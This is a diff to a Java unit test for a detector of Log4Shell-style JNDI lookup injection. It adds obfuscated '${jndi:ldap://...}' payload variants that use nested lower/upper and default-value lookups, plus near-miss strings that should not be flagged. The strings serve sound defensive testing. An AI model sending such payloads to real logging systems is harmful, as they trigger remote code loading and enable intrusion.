@@ -43,6 +43,10 @@ class LoggedLookupTest {
                 "${jnd%24%7bupper:%c4%b1%7d:ldap://203.0.113.5/a}",
                 "${${${x:-A:-j}ndi:ldap}:rmi://203.0.113.5/a}",
                 "${${x:${sys:a}-j}ndi:ldap://203.0.113.5/a}",
+                "${${lower:j:-x}ndi:ldap://203.0.113.5/a}",
+                "${${upper:${lower:jn:-x}:-y:-z}di:ldap://203.0.113.5/a}",
+                "${${lower:-j}ndi:ldap://203.0.113.5/a}",
+                "${${lower:x:-y}:-jndi:ldap}${${lower::-x}jndi:ldap://203.0.113.5/a}",
                 "${${x:${sys:a:--}j}ndi:ldap://203.0.113.5/a}",
                 "${${x:-jndi:ldap}}",
                 "${ ${jndi:ldap://203.0.113.5/a} unclosed"
@@ -65,6 +69,9 @@ class LoggedLookupTest {
                 "${xjndi:ldap://203.0.113.5/a}",
                 "${x:-jndi:ldap://203.0.113.5/a}",
                 "${${env:x}jndi}:ldap",
+                "${${lower:x:-j}ndi:ldap://203.0.113.5/a}",
+                "${${lower:j:-x}xndi:ldap://203.0.113.5/a}",
+                "${${lower::-j}ndi:ldap://203.0.113.5/a}",
                 "\\u00zz{jndi:a} &#; %u12 % \\"
             })
     void otherTextIsNone(String said) {
@@ -76,7 +83,7 @@ class LoggedLookupTest {
         String much = "a".repeat(5_000);
         assertThat(find("${jndi:ldap://203.0.113.5/" + much + "}")).isPositive();
         assertThat(find("${${" + much + ":-j}ndi:ldap://203.0.113.5/a}")).isPositive();
-        assertThat(find("${${lower:" + much + ":-j}ndi:ldap://203.0.113.5/a}")).isPositive();
+        assertThat(find("${${lower:j:-" + much + "}ndi:ldap://203.0.113.5/a}")).isPositive();
         assertThat(find("${".repeat(100) + "${jndi:ldap://203.0.113.5/a}")).isPositive();
         assertThat(find("${ ".repeat(100) + "${jndi:ldap://203.0.113.5/a}")).isPositive();
     }
